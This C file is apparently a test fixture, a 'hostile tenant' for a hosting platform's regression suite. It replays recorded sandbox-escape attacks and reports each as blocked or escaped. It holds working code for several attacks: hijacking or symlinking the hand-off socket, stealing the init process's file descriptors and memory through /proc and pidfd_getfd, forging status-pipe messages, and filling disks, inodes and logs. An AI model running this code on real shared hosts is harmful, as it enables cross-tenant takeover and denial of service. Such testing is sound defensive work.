/*
 * t/apps/hostile_tenant.c
 *	  A hostile tenant for t/015_hostile_tenant.pl: repeats, from inside its
 *	  sandbox, the attacks of issue 10 items 2-5 and 11 as they were made
 *	  on 0.3.0, prints one line per attempt, then serves HTTP 200 "tenant"
 *	  on $PORT.
 *
 *	    BLOCKED <name>: <how it failed>
 *	    ESCAPED <name>: <what succeeded>
 *
 *	  hostile_tenant hijack victim_run=DIR run_parent=DIR
 *	    (its own run directory is run_parent/d$NX_DEPLOYMENT on the host)
 *	    Take over the hand-off socket the router and the supervisor follow:
 *	    replace it with a listener that hands out sockets with SO_LINGER 20 s
 *	    (item 2), with a listener of backlog 0 and one connection nobody
 *	    accepts (item 3), or with a symlink to another tenant's socket
 *	    (item 4); at /run/nx/init.sock (0.3.0's place), at the host path of
 *	    its own run directory, and in every directory it can write.  Then
 *	    steal nx-init's listening socket or status pipe (/proc/1/fd,
 *	    pidfd_getfd), read its memory (/proc/1/mem, process_vm_readv).
 *	    Whatever works is used as 0.3.0 allowed.
 *
 *	  hostile_tenant fill stdout_mb=N
 *	    Find every place it can write (walking / except /proc and /sys,
 *	    creating a file in each directory), fill each file system found
 *	    with data until it refuses, then with empty files until the inodes
 *	    run out (item 5), and keep all of it; then write N MB to stdout as
 *	    fast as it can.  Prints "WRITABLE <dir> dev=<n>" for each directory,
 *	    "FILLED <dir> bytes=<n> files=<n> data_err=<e> files_err=<e>" for
 *	    each file system (both again after the flood, which rotates them out
 *	    of the log), "STDOUT wrote <n> bytes in <s> s", "FILL DONE".
 *
 * Build: gcc -O2 -o hostile_tenant t/apps/hostile_tenant.c
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define MAX_DIRS 512
#define MAX_DEVS 16

static const char *victim_run = "";
static char own_run[512];
static long stdout_mb = 0;

/* the directories it can write, and one per file system */
static char writable[MAX_DIRS][256];
static dev_t writable_dev[MAX_DIRS];
static int	n_writable;

/* verdict prints one BLOCKED/ESCAPED line. */
static void
verdict(bool ok_for_us, const char *name, const char *fmt,...)
{
	char		msg[512];
	va_list		ap;

	va_start(ap, fmt);
	vsnprintf(msg, sizeof(msg), fmt, ap);
	va_end(ap);
	printf("%s %s: %s\n", ok_for_us ? "ESCAPED" : "BLOCKED", name, msg);
	fflush(stdout);
}

/* errname: "ENOENT (No such file or directory)". */
static const char *
errname(int e)
{
	static char buf[4][96];
	static int	slot;
	char	   *b = buf[slot++ % 4];
	const char *n = strerrorname_np(e);

	snprintf(b, 96, "%s (%s)", n ? n : "E?", strerror(e));
	return b;
}

/* ---- finding what it can write ---- */

/* try_write_dir: can a file be created in dir? */
static bool
try_write_dir(const char *dir)
{
	char		path[512];
	int			fd;

	snprintf(path, sizeof(path), "%s/.hostile-probe-%d", strcmp(dir, "/") == 0 ? "" : dir, (int) getpid());
	fd = open(path, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0600);
	if (fd < 0)
		return false;
	close(fd);
	unlink(path);
	return true;
}

/* walk records every writable directory under dir (no links followed). */
static void
walk(const char *dir, int depth)
{
	DIR		   *d;
	struct dirent *e;
	struct stat st;

	if (depth > 8 || n_writable >= MAX_DIRS)
		return;
	if (strcmp(dir, "/proc") == 0 || strcmp(dir, "/sys") == 0)
		return;
	if (lstat(dir, &st) != 0 || !S_ISDIR(st.st_mode))
		return;
	if (try_write_dir(dir))
	{
		snprintf(writable[n_writable], sizeof(writable[0]), "%s", dir);
		writable_dev[n_writable++] = st.st_dev;
	}
	d = opendir(dir);
	if (d == NULL)
		return;
	while ((e = readdir(d)) != NULL)
	{
		char		sub[512];

		if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
			continue;
		if (e->d_type != DT_DIR && e->d_type != DT_UNKNOWN)
			continue;
		snprintf(sub, sizeof(sub), "%s/%s", strcmp(dir, "/") == 0 ? "" : dir, e->d_name);
		walk(sub, depth + 1);
	}
	closedir(d);
}

/* ---- the hand-off socket ---- */

/*
 * hijack_server is 0.3.0's item 2 attack once a listening socket is ours:
 * answer every CONNECT with a TCP socket whose close() lingers 20 s.
 * Runs in a child for `seconds`.
 */
static void
hijack_server(int lfd, int seconds)
{
	if (fork() != 0)
		return;
	alarm(seconds);
	for (;;)
	{
		int			c = accept(lfd, NULL, NULL);
		unsigned char req[8];
		struct linger lg = {1, 20};
		unsigned char reply[8] = {0x78, 0x6e, 1, 0, 0, 0, 0, 0};
		int			s;
		char		cbuf[CMSG_SPACE(sizeof(int))];
		struct iovec iov = {reply, sizeof(reply)};
		struct msghdr msg = {0};
		struct cmsghdr *cm;

		if (c < 0)
			continue;
		while (recv(c, req, sizeof(req), 0) > 0)
		{
			s = socket(AF_INET, SOCK_STREAM, 0);
			setsockopt(s, SOL_SOCKET, SO_LINGER, &lg, sizeof(lg));
			msg.msg_iov = &iov;
			msg.msg_iovlen = 1;
			msg.msg_control = cbuf;
			msg.msg_controllen = sizeof(cbuf);
			cm = CMSG_FIRSTHDR(&msg);
			cm->cmsg_level = SOL_SOCKET;
			cm->cmsg_type = SCM_RIGHTS;
			cm->cmsg_len = CMSG_LEN(sizeof(int));
			memcpy(CMSG_DATA(cm), &s, sizeof(int));
			sendmsg(c, &msg, MSG_NOSIGNAL);
			close(s);
		}
		close(c);
	}
}

/* bind_at replaces path by a SOCK_SEQPACKET listener; -1 (errno) if not. */
static int
bind_at(const char *path, int backlog)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	int			fd = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
	int			e;

	snprintf(a.sun_path, sizeof(a.sun_path), "%s", path);
	(void) unlink(path);
	if (fd >= 0 && bind(fd, (struct sockaddr *) &a, sizeof(a)) == 0 &&
		listen(fd, backlog) == 0)
		return fd;
	e = errno;
	if (fd >= 0)
		close(fd);
	errno = e;
	return -1;
}

/*
 * hijack_at makes the three 0.3.0 attacks on one socket path: lingering
 * listener, backlog-0 listener with a stuck connection, symlink to the
 * victim's socket.
 */
static void
hijack_at(const char *where, const char *path)
{
	char		name[128];
	char		target[512];
	int			fd;

	snprintf(name, sizeof(name), "hijack_linger_%s", where);
	fd = bind_at(path, 16);
	if (fd >= 0)
	{
		verdict(true, name, "listening at %s, handing out SO_LINGER 20 s sockets", path);
		hijack_server(fd, 120);
		close(fd);
	}
	else
		verdict(false, name, "cannot listen at %s: %s", path, errname(errno));

	snprintf(name, sizeof(name), "hijack_backlog0_%s", where);
	fd = bind_at(path, 0);
	if (fd >= 0)
	{
		struct sockaddr_un a = {.sun_family = AF_UNIX};
		int			c = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_NONBLOCK, 0);

		snprintf(a.sun_path, sizeof(a.sun_path), "%s", path);
		(void) connect(c, (struct sockaddr *) &a, sizeof(a));
		verdict(true, name, "listening at %s with backlog 0, one connection never accepted", path);
		/* keep both open: the fd table survives, the socket stays full */
	}
	else
		verdict(false, name, "cannot listen at %s: %s", path, errname(errno));

	snprintf(name, sizeof(name), "hijack_symlink_%s", where);
	snprintf(target, sizeof(target), "%s/init.sock", victim_run);
	(void) unlink(path);
	if (symlink(target, path) == 0)
		verdict(true, name, "%s -> %s", path, target);
	else
		verdict(false, name, "cannot symlink %s: %s", path, errname(errno));
}

/* is_listening_unix: is fd a listening unix socket? */
static bool
is_listening_unix(int fd)
{
	int			v = 0,
				dom = 0;
	socklen_t	len = sizeof(v);

	if (getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &v, &len) != 0 || !v)
		return false;
	len = sizeof(dom);
	return getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &dom, &len) == 0 && dom == AF_UNIX;
}

/* steal tries to get nx-init's listening socket and status pipe. */
static void
steal(void)
{
	int			fd,
				pidfd,
				found = -1;
	char		buf[16];
	struct iovec local = {buf, sizeof(buf)},
				remote = {(void *) 0x400000, sizeof(buf)};

	for (fd = 0; fd < 1024; fd++)
		if (is_listening_unix(fd))
			found = fd;
	if (found >= 0)
	{
		verdict(true, "inherited_listen_fd", "fd %d is a listening unix socket", found);
		hijack_server(found, 120);
	}
	else
		verdict(false, "inherited_listen_fd", "no listening unix socket among its descriptors");

	fd = open("/proc/1/fd/4", O_RDWR | O_CLOEXEC);
	if (fd >= 0)
		verdict(true, "proc_init_fd_listen", "opened /proc/1/fd/4 (%s)",
				is_listening_unix(fd) ? "nx-init's listening socket" : "something");
	else
		verdict(false, "proc_init_fd_listen", "open /proc/1/fd/4: %s", errname(errno));
	fd = open("/proc/1/fd/3", O_WRONLY | O_CLOEXEC);
	if (fd >= 0)
	{
		verdict(true, "proc_init_status_pipe", "opened nx-init's status pipe for writing");
		for (int i = 0; i < 100000; i++)
			if (write(fd, "ready\nexited 0\n", 15) < 0)
				break;
	}
	else
		verdict(false, "proc_init_status_pipe", "open /proc/1/fd/3: %s", errname(errno));
	{
		DIR		   *d = opendir("/proc/1/fd");

		if (d != NULL)
		{
			verdict(true, "proc_init_fd_list", "listed /proc/1/fd");
			closedir(d);
		}
		else
			verdict(false, "proc_init_fd_list", "opendir /proc/1/fd: %s", errname(errno));
	}
	fd = open("/proc/1/mem", O_RDONLY | O_CLOEXEC);
	if (fd >= 0)
		verdict(true, "proc_init_mem", "opened /proc/1/mem");
	else
		verdict(false, "proc_init_mem", "open /proc/1/mem: %s", errname(errno));

	pidfd = (int) syscall(SYS_pidfd_open, 1, 0);
	if (pidfd < 0)
		verdict(false, "pidfd_getfd_init", "pidfd_open(1): %s", errname(errno));
	else
	{
		int			got = (int) syscall(SYS_pidfd_getfd, pidfd, 4, 0);

		if (got >= 0)
			verdict(true, "pidfd_getfd_init", "took nx-init's fd 4 (listening: %s)",
					is_listening_unix(got) ? "yes" : "no");
		else
			verdict(false, "pidfd_getfd_init", "pidfd_getfd(nx-init, 4): %s", errname(errno));
		got = (int) syscall(SYS_pidfd_getfd, pidfd, 3, 0);
		if (got >= 0)
			verdict(true, "pidfd_getfd_init_status", "took nx-init's status pipe");
		else
			verdict(false, "pidfd_getfd_init_status", "pidfd_getfd(nx-init, 3): %s", errname(errno));
	}
	if (syscall(SYS_process_vm_readv, 1, &local, 1, &remote, 1, 0) >= 0)
		verdict(true, "process_vm_readv_init", "read nx-init's memory");
	else
		verdict(false, "process_vm_readv_init", "process_vm_readv(1): %s", errname(errno));
}

/* hijack runs every attack of items 2-4 and 11 (see the header). */
static void
hijack(void)
{
	struct stat st;
	char		path[600];

	if (stat("/run/nx", &st) == 0)
		verdict(true, "run_nx_visible", "/run/nx exists in the sandbox");
	else
		verdict(false, "run_nx_visible", "stat /run/nx: %s", errname(errno));
	if (mkdir("/run/nx", 0777) == 0)
		verdict(true, "run_nx_create", "created /run/nx");
	else
		verdict(false, "run_nx_create", "mkdir /run/nx: %s", errname(errno));
	hijack_at("run_nx", "/run/nx/init.sock");
	snprintf(path, sizeof(path), "%s/init.sock", own_run);
	hijack_at("own_run_dir", path);

	/* a socket anywhere it can write is only of use if someone follows it */
	walk("/", 0);
	for (int i = 0; i < n_writable; i++)
		printf("WRITABLE %s dev=%lu\n", writable[i], (unsigned long) writable_dev[i]);
	steal();
	printf("HIJACK DONE\n");
	fflush(stdout);
}

/* ---- filling ---- */

/* the FILLED lines, printed again after the stdout flood */
static char report[MAX_DEVS][640];
static int	n_report;

/* fill_one fills the file system of dir: data, then empty files. */
static void
fill_one(const char *dir)
{
	static char block[65536];
	char		path[512];
	long long	bytes = 0;
	long		files = 0;
	int			data_err = 0,
				files_err = 0,
				fd;

	memset(block, 'x', sizeof(block));
	snprintf(path, sizeof(path), "%s/hostile-fill-data", dir);
	fd = open(path, O_CREAT | O_WRONLY | O_TRUNC | O_CLOEXEC, 0600);
	if (fd < 0)
		data_err = errno;
	while (fd >= 0)
	{
		ssize_t		n = write(fd, block, sizeof(block));

		if (n <= 0)
		{
			data_err = n < 0 ? errno : ENOSPC;
			break;
		}
		bytes += n;
	}
	if (fd >= 0)
		close(fd);
	for (;;)
	{
		snprintf(path, sizeof(path), "%s/hostile-fill-%ld", dir, files);
		fd = open(path, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0600);
		if (fd < 0)
		{
			files_err = errno;
			break;
		}
		close(fd);
		files++;
		if (files >= 10000000)
			break;
	}
	if (n_report < MAX_DEVS)
	{
		snprintf(report[n_report], sizeof(report[0]),
				 "FILLED %s bytes=%lld files=%ld data_err=%s files_err=%s\n", dir, bytes, files,
				 strerrorname_np(data_err) ? strerrorname_np(data_err) : "0",
				 strerrorname_np(files_err) ? strerrorname_np(files_err) : "0");
		fputs(report[n_report++], stdout);
	}
	fflush(stdout);
}

/* fill fills every writable file system, then floods stdout. */
static void
fill(void)
{
	static char line[1024];
	struct timespec t0,
				t1;
	long long	total = 0,
				want = stdout_mb * 1024 * 1024;

	walk("/", 0);
	for (int i = 0; i < n_writable; i++)
		printf("WRITABLE %s dev=%lu\n", writable[i], (unsigned long) writable_dev[i]);
	for (int i = 0; i < n_writable; i++)
	{
		bool		seen = false;

		for (int j = 0; j < i; j++)
			seen |= writable_dev[j] == writable_dev[i];
		if (!seen)
			fill_one(writable[i]);
	}

	memset(line, 'y', sizeof(line) - 1);
	line[sizeof(line) - 2] = '\n';
	clock_gettime(CLOCK_MONOTONIC, &t0);
	while (total < want)
	{
		ssize_t		n = write(1, line, sizeof(line) - 1);

		if (n <= 0)
			break;
		total += n;
	}
	clock_gettime(CLOCK_MONOTONIC, &t1);
	/* the report again: the flood has rotated the first lines out of the log */
	printf("\n");
	for (int i = 0; i < n_writable; i++)
		printf("WRITABLE %s dev=%lu\n", writable[i], (unsigned long) writable_dev[i]);
	for (int i = 0; i < n_report; i++)
		fputs(report[i], stdout);
	printf("STDOUT wrote %lld bytes in %.2f s\nFILL DONE\n", total,
		   (t1.tv_sec - t0.tv_sec) + (t1.tv_nsec - t0.tv_nsec) / 1e9);
	fflush(stdout);
}

/* ---- then an ordinary app ---- */

static void
serve(void)
{
	struct sockaddr_in addr = {.sin_family = AF_INET};
	int			one = 1;
	int			lfd = socket(AF_INET, SOCK_STREAM, 0);

	addr.sin_port = htons(atoi(getenv("PORT") ? getenv("PORT") : "0"));
	if (lfd < 0 || setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) < 0 ||
		bind(lfd, (struct sockaddr *) &addr, sizeof(addr)) < 0 || listen(lfd, 64) < 0)
	{
		perror("hostile_tenant: listen");
		exit(1);
	}
	for (;;)
	{
		static const char response[] =
			"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\ntenant";
		char		buf[4096];
		int			c = accept(lfd, NULL, NULL);

		if (c < 0)
			continue;
		if (read(c, buf, sizeof(buf)) > 0 && write(c, response, sizeof(response) - 1) < 0)
			perror("hostile_tenant: write");
		close(c);
	}
}

int
main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
	for (int i = 2; i < argc; i++)
	{
		char	   *eq = strchr(argv[i], '=');

		if (eq == NULL)
			continue;
		*eq = '\0';
		if (strcmp(argv[i], "victim_run") == 0)
			victim_run = eq + 1;
		else if (strcmp(argv[i], "run_parent") == 0)
			snprintf(own_run, sizeof(own_run), "%s/d%s", eq + 1,
					 getenv("NX_DEPLOYMENT") ? getenv("NX_DEPLOYMENT") : "0");
		else if (strcmp(argv[i], "stdout_mb") == 0)
			stdout_mb = atol(eq + 1);
	}
	printf("hostile_tenant: mode %s, uid %d, pid %d\n", mode, (int) getuid(), (int) getpid());
	if (strcmp(mode, "hijack") == 0)
		hijack();
	else if (strcmp(mode, "fill") == 0)
		fill();
	else
	{
		printf("hostile_tenant: unknown mode \"%s\"\n", mode);
		return 2;
	}
	serve();
}
